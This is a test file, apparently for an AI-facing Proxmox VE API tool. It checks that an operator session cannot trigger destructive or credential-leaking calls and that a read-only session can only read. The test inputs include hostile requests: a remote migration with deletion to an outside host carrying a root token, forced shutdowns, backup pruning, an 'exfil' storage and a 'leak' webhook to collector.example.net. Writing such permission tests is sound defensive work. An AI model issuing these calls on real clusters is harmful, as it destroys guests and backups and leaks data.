/**
 * What the mode allows through `pve_api`: destructive raw effects (remote migration, forced shutdown, pruning
 * backups, storages, credential-carrying endpoints) need admin, so an operator session sends nothing; a read-only
 * session gets `pve_api` narrowed to GET and can read every endpoint but change none.
 */
import { assert, assertEquals, changesSent, rawStack, refusedUnsent } from "./raw_helpers.ts";

Deno.test("adversarial raw: operator mode cannot reach destructive effects through pve_api", async (t) => {
  const s = await rawStack("operator");
  const { sim, raw } = s;
  const g = (vmid: number) => sim.state.guests.get(vmid)!;
  const admin = /needs mode admin/;
  try {
    await t.step("remote migration, forced shutdown, pruning backups", async () => {
      sim.clearRequests();
      refusedUnsent(
        sim,
        await raw("POST", "/nodes/pve1/qemu/106/remote_migrate", {
          "target-endpoint": "host=198.51.100.7,apitoken=PVEAPIToken=root@pam!x=00000000-0000-0000-0000-000000000000",
          "target-storage": "local-lvm",
          "target-bridge": "vmbr0",
          delete: 1,
        }),
        "remote_migrate delete=1",
        admin,
      );
      refusedUnsent(
        sim,
        await raw("POST", "/nodes/pve1/qemu/106/remote_migrate", {
          "target-endpoint": "host=198.51.100.7,apitoken=PVEAPIToken=root@pam!x=00000000-0000-0000-0000-000000000000",
          "target-storage": "local-lvm",
          "target-bridge": "vmbr0",
        }),
        "remote_migrate without delete",
        admin,
      );
      refusedUnsent(
        sim,
        await raw("POST", "/nodes/pve1/qemu/106/status/shutdown", { forceStop: 1 }),
        "shutdown forceStop=1",
        admin,
      );
      refusedUnsent(sim, await raw("POST", "/nodes/pve2/lxc/107/status/shutdown", { forceStop: "true" }), "CT", admin);
      refusedUnsent(sim, await raw("POST", "/nodes/pve1/vzdump", { all: 1, storage: "nas" }), "vzdump all=1", admin);
      refusedUnsent(sim, await raw("POST", "/nodes/pve1/vzdump", { vmid: "106", storage: "nas" }), "remove=1", admin);
      refusedUnsent(
        sim,
        await raw("POST", "/nodes/pve1/vzdump", {
          vmid: "106",
          storage: "nas",
          remove: 0,
          "prune-backups": "keep-last=1",
        }),
        "vzdump prune-backups",
        admin,
      );
      assertEquals([g(106).status, g(107).status], ["running", "running"]);
    });

    await t.step("storages, jobs and endpoints that carry credentials", async () => {
      sim.clearRequests();
      refusedUnsent(
        sim,
        await raw("POST", "/storage", { storage: "exfil", type: "dir", path: "/mnt/x" }),
        "add",
        admin,
      );
      refusedUnsent(sim, await raw("PUT", "/storage/nas", { disable: 1 }), "storage update", admin);
      refusedUnsent(
        sim,
        await raw("POST", "/cluster/backup", { vmid: "106", storage: "nas", schedule: "daily" }),
        "backup job",
        admin,
      );
      refusedUnsent(
        sim,
        await raw("POST", "/cluster/notifications/endpoints/webhook", {
          name: "leak",
          url: "https://collector.example.net/hook",
          method: "post",
        }),
        "webhook endpoint",
        admin,
      );
      assert(!sim.state.storages.has("exfil"), "a storage was added");
    });

    await t.step("control: the same calls without the destructive parameter go through", async () => {
      sim.clearRequests();
      let res = await raw("POST", "/nodes/pve1/qemu/106/status/shutdown");
      assert(!res.isError, res.content[0]?.text ?? "");
      res = await raw("POST", "/nodes/pve1/vzdump", { vmid: "109", storage: "nas", remove: 0 });
      assert(!res.isError, res.content[0]?.text ?? "");
      assertEquals(changesSent(sim), ["POST /nodes/pve1/qemu/106/status/shutdown", "POST /nodes/pve1/vzdump"]);
    });
  } finally {
    await s.close();
  }
});

Deno.test("adversarial raw: a read-only session reads any endpoint through pve_api and changes nothing", async () => {
  const s = await rawStack("read-only");
  const { sim, raw } = s;
  try {
    const list = await s.client.listTools();
    const tool = list.tools.find((x) => x.name === "pve_api");
    assert(tool, "pve_api is not listed in read-only mode");
    const method = (tool.inputSchema.properties as Record<string, { enum?: string[] }>).method;
    assertEquals(method?.enum, ["GET"]);
    assertEquals(tool.annotations?.readOnlyHint, true);
    sim.clearRequests();
    const res = await raw("GET", "/cluster/ha/rules");
    assert(!res.isError, res.content[0]?.text ?? "");
    assertEquals(sim.requests.filter((r) => r.path === "/cluster/ha/rules").length, 1);
    for (const [m, path] of [["POST", "/nodes/pve1/qemu/106/status/stop"], ["DELETE", "/nodes/pve1/qemu/106"]]) {
      refusedUnsent(sim, await raw(m!, path!), `${m} ${path} in read-only mode`);
    }
    assertEquals(sim.state.guests.get(106)?.status, "running");
  } finally {
    await s.close();
  }
});
